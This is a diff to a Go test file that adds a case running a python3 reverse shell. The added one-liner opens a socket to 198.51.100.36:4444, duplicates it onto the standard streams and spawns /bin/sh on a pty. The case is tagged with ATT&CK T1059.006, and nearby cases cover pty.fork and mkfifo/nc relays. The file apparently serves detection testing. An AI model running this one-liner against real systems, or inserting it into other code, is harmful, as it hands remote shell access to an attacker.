@@ -47,6 +47,14 @@ func TestReverseShellRelays(t *testing.T) {
 			note: "python3 pty.fork() relay (select loop between the socket and the pty master), sh -i on the pty",
 		},
 		{
+			name: "revshell_python_pty_spawn", c2: "198.51.100.36", port: "4444",
+			argv: func(string) []string {
+				return []string{"timeout", "25", "python3", "-c", `import socket,os,pty;s=socket.socket();s.connect(("198.51.100.36",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`}
+			},
+			tech: "T1059.006", proc: "sh",
+			note: "python3 socket + dup2 + pty.spawn('/bin/sh') (Atomic T1059.006 #4 inside a reverse shell): sh on the pty python holds",
+		},
+		{
 			name: "revshell_mkfifo_nc", c2: "198.51.100.32", port: "4444",
 			argv: func(dir string) []string {
 				f := filepath.Join(dir, "f")
